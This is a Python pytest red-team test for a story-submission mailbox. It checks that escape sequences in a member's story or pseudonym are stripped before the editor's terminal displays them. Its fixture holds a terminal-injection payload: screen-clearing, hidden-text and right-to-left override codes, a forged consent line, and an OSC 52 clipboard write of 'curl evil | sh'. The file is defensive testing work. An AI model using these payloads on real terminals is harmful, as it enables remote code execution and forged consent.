"""Red team: a member's text took over the editor's terminal.

The member's story and pseudonym were stored as sent and printed raw by ``voces buzon
ver`` / ``lista``: escape sequences in them clear the screen, hide lines, rewrite what
the editor reads ("consentimiento: sí") or set the clipboard (OSC 52) to a command
the editor then pastes. A story never needs control characters: they are dropped at
the door, and the commands print nothing raw. Real server on 127.0.0.1, real commands.
"""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "mailbox"))

from mailbox_helpers import Member, Server, decrypt_all, mailbox_env, voces_buzon

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh\n").decode() + "\x07"
STORY = (
    "Llegué en marzo.\x1b[2J\x1b[H  consentimiento: sí\n"
    f"Mi historia sigue aquí.{CLIPBOARD}\x1b[8m oculto \x1b[0m\u202eodatlov\u202c\r fin"
)


@pytest.fixture(scope="module")
def sent(tmp_path_factory):
    env = mailbox_env(tmp_path_factory.mktemp("escapes"))
    server = Server(env)
    try:
        member = Member(server.base)
        member.start(server.invite())
        receipt = member.send_story(text=STORY, name="Luna\x1b[31m\x07", scope="todavia_no")
    finally:
        server.stop()
    return env, receipt


@pytest.mark.parametrize("command", [("ver",), ("lista",)])
def test_the_commands_print_no_control_characters(sent, command):
    env, receipt = sent
    args = (*command, receipt) if command == ("ver",) else command
    out = voces_buzon(env, *args).stdout
    bad = [c for c in out if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, repr(out)
    assert "\u202e" not in out
    assert "Luna" in out


def test_the_story_keeps_its_words(sent):
    env, receipt = sent
    out = voces_buzon(env, "ver", receipt).stdout
    assert "Llegué en marzo." in out and "Mi historia sigue aquí." in out and "fin" in out
    # Dropped at the door: the quarantine holds no escape either.
    stored = b"".join(v for k, v in decrypt_all(env).items() if k.endswith("datos.json"))
    assert b"\\u001b" not in stored and b"\x1b" not in stored and b"Llegu" in stored
